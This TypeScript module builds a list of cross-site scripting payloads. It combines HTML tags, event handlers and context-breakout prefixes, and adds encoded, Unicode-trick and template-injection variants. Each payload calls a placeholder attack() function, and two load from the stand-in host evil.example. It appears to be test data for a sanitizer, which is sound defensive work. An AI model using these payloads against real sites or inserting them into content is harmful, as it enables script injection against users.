const tags = [
  'script',
  'img src=x',
  'svg',
  'iframe srcdoc=x',
  'body',
  'a',
  'math',
  'style',
  'object',
  'template',
  'base',
  'meta',
]
const handlers = [
  'onerror=attack()',
  'onload=attack()',
  'href="javascript:attack()"',
  'onfocus=attack() autofocus tabindex=0',
  'style="background:url(//evil.example/x)"',
]
const leads = ['', '">', "'>", '</script>', '--></title></textarea>']

/** Texts that try to run a script, to leave the element they stand in, or to load something. All call `attack`. */
export const payloads: readonly string[] = [
  ...tags.flatMap((tag) => handlers.flatMap((handler) => leads.map((lead) => `${lead}<${tag} ${handler}>`))),
  '</script><script>attack()</script>',
  '</SCRIPT ><script>attack()</script>',
  '<!--<script>attack()',
  '<!--<script></script>',
  ']]><script>attack()</script>',
  '\u2028attack()\u2029',
  '"-attack()-"',
  "\\'-attack()-\\'",
  '\\u003cscript>attack()</script>',
  `\${attack()}`,
  '{{constructor.constructor("attack()")()}}',
  '&lt;script&gt;attack()&lt;/script&gt;',
  '&#60;script&#62;attack()',
  'javascript:attack()',
  '\ud83d<script>attack()</script>',
  '\u0000<script>attack()</script>',
  '＜script＞attack()＜/script＞',
  '\u202e<script>attack()</script>',
  '</style><script>attack()</script>',
  '<link rel=stylesheet href=//evil.example/x>',
]
